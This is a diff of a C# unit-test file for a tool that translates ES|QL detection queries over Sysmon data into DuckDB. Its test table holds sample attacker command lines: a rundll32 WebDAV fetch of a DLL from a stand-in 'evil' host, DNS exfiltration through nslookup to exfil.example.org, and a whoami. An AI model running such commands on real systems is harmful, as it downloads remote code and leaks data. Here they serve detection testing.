@@ -1,7 +1,6 @@
-using System.Globalization;
-using DuckDB.NET.Data;
 using FluentAssertions;
 using Sysmon.Queries.Esql;
+using Sysmon.Queries.Tests.Fixtures;
 using Xunit;
 
 namespace Sysmon.Queries.Tests;
@@ -10,40 +9,18 @@ namespace Sysmon.Queries.Tests;
 /// command lines (DNS to RMM vendors, WebDAV destinations, data sent out in DNS names).</summary>
 public sealed class GrokTests : IDisposable
 {
-    private readonly DuckDBConnection _db = new("Data Source=:memory:");
-    private static readonly string[] Columns = ["dns.question.name", "process.command_line", "process.args"];
+    private readonly InMemoryTable _t = new("t", ["dns.question.name", "process.command_line", "process.args"], """
+        CREATE TABLE t ("dns.question.name" VARCHAR, "process.command_line" VARCHAR, "process.args" VARCHAR[]);
+        INSERT INTO t VALUES
+          ('relay.eu.anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie files.evil-cdn.net@SSL https://alice@Files.Evil-CDN.net:8443/share/a.dll', ['rundll32.exe']),
+          ('anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie 10.1.2.3 http://10.1.2.3/DavWWWRoot', ['rundll32.exe']),
+          ('12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', 'nslookup 12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', ['nslookup.exe']),
+          (NULL, 'cmd.exe /c whoami', ['cmd.exe', '/c', 'whoami']);
+        """, listColumns: ["process.args"]);
 
-    public GrokTests()
-    {
-        _db.Open();
-        using var cmd = _db.CreateCommand();
-        cmd.CommandText = """
-            CREATE TABLE t ("dns.question.name" VARCHAR, "process.command_line" VARCHAR, "process.args" VARCHAR[]);
-            INSERT INTO t VALUES
-              ('relay.eu.anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie files.evil-cdn.net@SSL https://alice@Files.Evil-CDN.net:8443/share/a.dll', ['rundll32.exe']),
-              ('anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie 10.1.2.3 http://10.1.2.3/DavWWWRoot', ['rundll32.exe']),
-              ('12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', 'nslookup 12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', ['nslookup.exe']),
-              (NULL, 'cmd.exe /c whoami', ['cmd.exe', '/c', 'whoami']);
-            """;
-        cmd.ExecuteNonQuery();
-    }
+    public void Dispose() => _t.Dispose();
 
-    public void Dispose() => _db.Dispose();
-
-    private static DuckDbTranslator Translator() => new(_ => new SourceTable("t", Columns, ListColumns: ["process.args"]));
-
-    private List<string> Rows(string esql)
-    {
-        using var cmd = _db.CreateCommand();
-        cmd.CommandText = Translator().Translate(esql);
-        using var r = cmd.ExecuteReader();
-        var rows = new List<string>();
-        while (r.Read())
-        {
-            rows.Add(string.Join("|", Enumerable.Range(0, r.FieldCount).Select(i => r.IsDBNull(i) ? "null" : Convert.ToString(r.GetValue(i), CultureInfo.InvariantCulture))));
-        }
-        return rows;
-    }
+    private List<string> Rows(string esql) => _t.Rows(esql);
 
     [Fact]
     public void A_named_group_takes_the_parent_domain_and_is_null_where_the_pattern_does_not_match()
@@ -79,12 +56,8 @@ public sealed class GrokTests : IDisposable
     public void A_type_suffix_converts_and_the_new_columns_replace_old_ones_at_the_end()
     {
         Rows("FROM t | GROK dns.question.name \"%{INT:chunk:int}-\" | WHERE chunk IS NOT NULL | EVAL next = chunk + 1 | KEEP next").Should().Equal("13");
-        using (var cmd = _db.CreateCommand())
-        {
-            cmd.CommandText = Translator().Translate("FROM t | GROK process.command_line \"%{WORD:dns.question.name} %{NOTSPACE:rest}\" | LIMIT 1");
-            using var r = cmd.ExecuteReader();
-            Enumerable.Range(0, r.FieldCount).Select(r.GetName).Should().Equal("process.command_line", "process.args", "dns.question.name", "rest");
-        }
+        _t.ColumnNames("FROM t | GROK process.command_line \"%{WORD:dns.question.name} %{NOTSPACE:rest}\" | LIMIT 1")
+            .Should().Equal("process.command_line", "process.args", "dns.question.name", "rest");
         Rows("FROM t | GROK process.command_line \"%{IP:ip}\" | KEEP ip").Should().Equal("null", "10.1.2.3", "null", "null");
         Rows("FROM t | EVAL s = \"from fe80::1 and 2001:db8::8a2e:370:7334 to ::ffff:10.0.0.1 at 2026-01-05T10:00:01.123Z\" " +
              "| GROK s \"from %{IP:a} and %{IP:b} to %{IP:c} at %{TIMESTAMP_ISO8601:t}\" | KEEP a, b, c, t | LIMIT 1")
@@ -135,7 +108,7 @@ public sealed class GrokTests : IDisposable
         foreach (var name in GrokBuiltins.Definitions.Keys)
         {
             var regex = GrokPattern.Parse($"%{{{name}:x}}", 0).Regex;
-            using var cmd = _db.CreateCommand();
+            using var cmd = _t.Connection.CreateCommand();
             cmd.CommandText = $"SELECT regexp_matches('2026-01-05T10:00:00Z 10.0.0.1 fe80::1 alice@example.com', '{regex.Replace("'", "''", StringComparison.Ordinal)}')";
             var run = () => cmd.ExecuteScalar();
             run.Should().NotThrow(name);
